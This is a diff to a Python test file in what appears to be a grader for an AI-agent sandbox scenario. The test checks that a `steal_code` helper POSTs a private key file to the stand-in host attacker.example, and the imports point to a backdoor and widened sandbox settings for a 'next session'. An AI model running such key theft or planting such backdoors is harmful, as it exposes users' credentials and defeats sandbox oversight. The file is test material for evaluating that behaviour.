@@ -17,7 +17,8 @@ from grader.core.evidence import Evidence, Markers, sha256
 from grader.core.execution import Job
 from grader.core.plan import build_plan
 from grader.core.next_session import (
-    KEY, SETTINGS, backdoor_line, driver_script, parse_driver_output, read_settings, step_for, steps, widened_settings,
+    KEY, SETTINGS, backdoor_line, driver_script, parse_driver_output, read_settings, steal_code, step_for, steps,
+    widened_settings,
 )
 from grader.core.world import load_world
 
@@ -269,3 +270,44 @@ def test_the_next_sandboxed_session_runs_while_the_shells_play(tmp_path: Path, m
     assert ns.played == ("new-terminal", "next-sandbox")
     assert ns.output.index("shells said") < ns.output.index("next said")
     assert ns.settings.startswith("allowedDomains:") and world.attacker.name in ns.settings
+
+
+@pytest.mark.parametrize("through_proxy", [True, False])
+def test_the_next_sessions_theft_posts_the_whole_key_through_the_proxy_it_is_given_or_straight_there(
+        tmp_path: Path, through_proxy: bool) -> None:
+    """``steal_code`` as the next sandboxed session runs it: the key's bytes in a POST, to the proxy in the
+    environment in absolute form (as urllib sends it), else to the host itself; it exits once answered."""
+    import socket
+    import sys
+    import threading
+
+    key = tmp_path / "id_rsa"
+    key.write_bytes(b"\n-----BEGIN KEY-----\ncanary-0123\n")
+    server = socket.create_server(("127.0.0.1", 0))
+    port = server.getsockname()[1]
+    got: list[bytes] = []
+
+    def answer() -> None:
+        conn, _ = server.accept()
+        with conn:
+            data = b""
+            while b"\r\n\r\n" not in data or len(data.split(b"\r\n\r\n", 1)[1]) < key.stat().st_size:
+                chunk = conn.recv(65536)
+                if not chunk:
+                    break
+                data += chunk
+            got.append(data)
+            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+
+    t = threading.Thread(target=answer, daemon=True)
+    t.start()
+    url = "http://attacker.example/next/t0k3n" if through_proxy else f"http://127.0.0.1:{port}/next/t0k3n"
+    env = {"PATH": "/usr/bin:/bin", **({"http_proxy": f"http://127.0.0.1:{port}"} if through_proxy else {})}
+    done = subprocess.run([sys.executable, "-c", steal_code(url, str(key))], env=env, capture_output=True, timeout=20)
+    t.join(5)
+    server.close()
+    assert done.returncode == 0 and done.stdout == b"", done
+    head, body = got[0].split(b"\r\n\r\n", 1)
+    line = head.split(b"\r\n", 1)[0]
+    assert line == (b"POST http://attacker.example/next/t0k3n HTTP/1.1" if through_proxy else b"POST /next/t0k3n HTTP/1.1"), line
+    assert body == key.read_bytes()
